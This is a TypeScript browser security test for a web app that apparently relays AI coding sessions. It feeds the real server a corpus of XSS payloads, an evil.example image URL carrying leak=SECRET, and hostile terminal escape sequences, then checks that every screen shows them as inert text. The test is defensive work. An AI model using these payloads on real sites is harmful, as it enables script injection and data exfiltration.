// Hostile text from a machine, a phone and a token, through the real server, on every screen that the real page has.
import { expect, test } from "bun:test";
import { loadConfig } from "../../config.ts";
import { pageAssets } from "../../page.ts";
import type { ConversationId, Message } from "../../protocol.ts";
import { annexesOf } from "../../serve.ts";
import { prompt, TestLink } from "../link.ts";
import { openBrowser } from "../page.ts";
import { testServer } from "../server.ts";
import { TestViewer } from "../viewer.ts";

const CORPUS = [
  "<script>window.pwned=1</script>",
  '"><img src=x onerror="window.pwned=1">',
  "<svg/onload=window.pwned=1>",
  "</title></textarea><iframe srcdoc='<script>parent.pwned=1</script>'>",
  "<math><mtext></table></math><style><img src onerror=window.pwned=1>",
  "</script><script>window.pwned=1</script>",
  "[x](javascript:window.pwned=1) [y](data:text/html,<script>window.pwned=1</script>)",
  "![x](https://evil.example/p.png?leak=SECRET) <link rel=icon href=//evil.example/f>",
  "url(https://evil.example/css) @import '//evil.example';",
  "{{constructor.constructor('window.pwned=1')()}}",
];
/** And what a terminal, though no page, would obey: the clipboard, a link, a title, a picture. */
const ESCAPES =
  "\x1b]52;c;ZXZpbA==\x07\x1b]8;;javascript:window.pwned=1\x07x\x1b]8;;\x07\x1b]0;PWNED\x07\x1bPq#0;2;0;0;0\x1b\\\u202e";
const ALL = CORPUS.join(" ");
const NAME = "<img src=x onerror=window.pwned=1>";
const conversation = "c-evil" as ConversationId;

/** Screens of the page with an address of their own, as the server knows them. */
const screensOf = (routes: readonly { path: string; who: readonly string[] }[]) =>
  routes
    .filter(({ path, who }) => who.includes("public") && /^\/[a-z-]*$/.test(path) && path !== "/health")
    .map(({ path }) => path);

test("SEC-049 SEC-050 SEC-051 hostile text through the real server is text on every screen: no script, no request, no title", async () => {
  const config = loadConfig({}, { CLAUDE_REMOTE_HOME: "/nowhere" });
  await using server = await testServer({ assets: await pageAssets(), annexes: annexesOf(config) });
  const viewer = await TestViewer.pair(server, NAME);
  await server.admin("POST", "/tokens", { name: NAME, scopes: ["read"] });
  await server.admin("POST", "/devices", { name: NAME });
  const { link, id } = await TestLink.session(server, {
    ...{ title: ALL + ESCAPES, cwd: `/home/${ALL}${ESCAPES}`, command: [ALL], waiting_for: ALL + ESCAPES },
    ...{ status: "waiting", claude_version: NAME, permission_mode: "default", conversation },
  });
  const asked = await link.ask(
    prompt({
      tool: NAME,
      input: { [ALL]: ALL + ESCAPES, command: ALL },
      prompt_text: ALL,
      cwd: ALL,
      agent: null,
    }),
  );
  const row = [{ text: ALL.slice(0, 400) }];
  link.say({ type: "output", frame: { size: { cols: 200, rows: 24 }, lines: [{ y: 0, row }] } as never });
  link.say({
    type: "lines",
    lines: [{ line_no: 0, epoch: 0, source: "screen", text: ALL + ESCAPES }] as never,
  });
  const said = (uuid: string, role: Message["role"], body: unknown): Message =>
    ({ conversation, uuid, seq: Number(uuid.slice(1)), role, body, age_ms: 0 }) as never;
  link.say({ type: "message", message: said("u1", "user", { parts: [{ type: "text", text: ALL }] }) });
  const parts = [{ type: "text", text: `# ${ALL}\n\n${CORPUS.join("\n\n")}\n\n\`\`\`html\n${ALL}\n\`\`\`` }];
  link.say({ type: "message", message: said("u2", "assistant", { parts }) });
  await link.ask(
    prompt({ kind: "plan", tool: "ExitPlanMode", input: { plan: `# ${ALL}` }, prompt_text: ALL }),
  );
  await viewer.post(`/api/prompts/${asked.id}/reject`, {
    digest: "0".repeat(64),
    answer_id: "x",
    message: ALL,
  });

  const browser = await openBrowser();
  try {
    const context = await browser.newContext({
      viewport: { width: 390, height: 844 },
      acceptDownloads: true,
    });
    const [name = "", value = ""] = viewer.cookie.split("=");
    await context.addCookies([{ name, value, url: server.url, httpOnly: true, sameSite: "Strict" }]);
    const page = await context.newPage();
    const wrong: string[] = [];
    page.on("request", (request) => {
      const { origin, protocol } = new URL(request.url());
      if (origin !== server.url && protocol !== "data:" && protocol !== "blob:") wrong.push(request.url());
    });
    page.on("console", (message) => {
      if (/Content Security Policy|Trusted ?Type/i.test(message.text())) wrong.push(message.text());
    });
    page.on("pageerror", (error) => wrong.push(String(error)));
    page.on("dialog", (dialog) => wrong.push(dialog.message()));
    page.on("download", (download) => wrong.push(download.url()));
    page.on("framenavigated", (frame) => {
      if (frame !== page.mainFrame()) wrong.push(frame.url());
    });
    const screens = screensOf(server.routes);
    expect(screens.length).toBeGreaterThan(7);
    const paths = [
      ...screens,
      ...[`/s/${id}`, `/p/${asked.id}`, `/search?q=${encodeURIComponent("window")}`],
      ...[
        `/search?q=${encodeURIComponent(ALL)}`,
        `/s/${encodeURIComponent(NAME)}`,
        `/pair#${encodeURIComponent(ALL)}`,
      ],
    ];
    let shown = 0;
    for (const path of paths) {
      await page.goto(server.url + path);
      await page.locator("body").waitFor({ state: "attached" });
      // What comes on demand has come when nothing new is asked for; the event stream stays open for ever.
      await page.waitForFunction(() => document.readyState === "complete");
      await Bun.sleep(300);
      const found = await page.evaluate(() => ({
        hit: (window as unknown as { pwned?: number }).pwned ?? null,
        bad: document.querySelectorAll(
          "iframe, object, embed, math, img[src=x], svg[onload], [onerror], link[href*=evil], a[href^=javascript], a[href^=data]",
        ).length,
        scripts: [...document.scripts].filter(({ src }) => new URL(src).origin !== location.origin).length,
        title: document.title,
        shows: document.body.innerText.includes("<img src=x"),
      }));
      expect({ path, ...found, shows: true }).toEqual({
        path,
        hit: null,
        bad: 0,
        scripts: 0,
        title: found.title,
        shows: true,
      });
      expect(found.title, path).not.toMatch(/PWNED|\x1b|\u202e/);
      if (found.shows) shown++;
    }
    expect(shown).toBeGreaterThan(3); // The corpus does stand there, as text.
    expect(wrong).toEqual([]);
  } finally {
    await browser.close();
  }
  link[Symbol.dispose]();
}, 180_000);
